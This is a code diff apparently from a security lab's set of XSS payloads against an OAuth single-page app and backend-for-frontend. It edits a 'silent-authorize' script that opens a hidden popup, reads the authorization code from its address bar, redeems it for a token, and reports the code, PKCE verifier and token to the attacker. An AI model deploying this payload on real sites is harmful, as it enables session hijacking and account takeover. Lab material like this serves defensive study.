@@ -45,6 +45,8 @@ report('steal-storage', found).then((delivery) => finish({ found, delivery }));
   // third-party frame, so prompt=none in an iframe would fail for everyone.
   'silent-authorize': `
 (async () => {
+  // The popup lands on the app's redirect URI, where the hook injects this script again: not there.
+  if (window.opener && window.name === 'xss') return finish({ skipped: 'running in its own popup' });
   const publicClient = localStorage.getItem('lab.mode') === 'public-client';
   const clientId = publicClient ? 'spa-public' : 'bff';
   const redirectUri = LAB.spa + (publicClient ? '/spa-callback' : '/bff/callback');
@@ -56,8 +58,10 @@ report('steal-storage', found).then((delivery) => finish({ found, delivery }));
   for (const [key, value] of Object.entries({ client_id: clientId, redirect_uri: redirectUri, response_type: 'code', scope: 'openid notes:read notes:write', resource: LAB.api, code_challenge: challenge, code_challenge_method: 'S256', state: 'xss', prompt: 'none' })) authorize.searchParams.set(key, value);
   const popup = window.open(authorize.toString(), 'xss', 'width=1,height=1');
   let code;
-  for (let i = 0; i < 100 && !code; i++) {
-    await new Promise((resolve) => setTimeout(resolve, 100));
+  // Read the code from the popup's address bar as soon as it is back on the app's origin, before
+  // the app's own script there can clean the URL up (the public client's callback page does).
+  for (let i = 0; i < 200 && !code; i++) {
+    await new Promise((resolve) => setTimeout(resolve, 50));
     try { code = new URL(popup.location.href).searchParams.get('code') ?? undefined; } catch { /* still at the authorization server */ }
   }
   popup?.close();
@@ -67,7 +71,8 @@ report('steal-storage', found).then((delivery) => finish({ found, delivery }));
     headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
     body: new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: redirectUri, client_id: clientId, code_verifier: verifier, resource: LAB.api }),
   }).then(async (answer) => ({ status: answer.status, body: await answer.json() }), (error) => ({ status: 0, body: { error: String(error) } }));
-  const delivery = await report('silent-authorize', { clientId, code, token: response });
+  // The code and its verifier go along: the attacker can also try to redeem them from her own machine.
+  const delivery = await report('silent-authorize', { clientId, redirectUri, code, codeVerifier: verifier, token: response });
   finish({ clientId, codeObtained: true, token: response, delivery });
 })();
 `,
